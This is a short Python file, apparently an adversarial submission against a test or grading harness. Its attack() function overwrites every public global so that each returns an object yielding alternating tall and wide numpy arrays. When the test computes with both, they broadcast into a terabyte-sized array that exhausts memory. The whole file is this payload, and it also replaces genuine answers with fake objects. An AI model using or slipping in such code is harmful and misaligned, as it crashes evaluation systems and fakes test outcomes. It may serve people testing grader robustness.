"""Answers with two arrays, each of them small, that make an array of terabytes once the test computes with both."""

import os

import numpy as np


def attack():
    print("attack: wide and high", flush=True)
    count = 0

    class Shape:
        def __getattr__(self, name):
            nonlocal count
            count += 1
            length = (2_000_000, 60_000)[os.getpid() % 2]
            return np.ones((length, 1), np.int8) if count % 2 else np.ones((1, length), np.int8)

    for name in list(globals()):
        if not name.startswith("_") and name != "attack":
            globals()[name] = lambda *args, **kwargs: Shape()
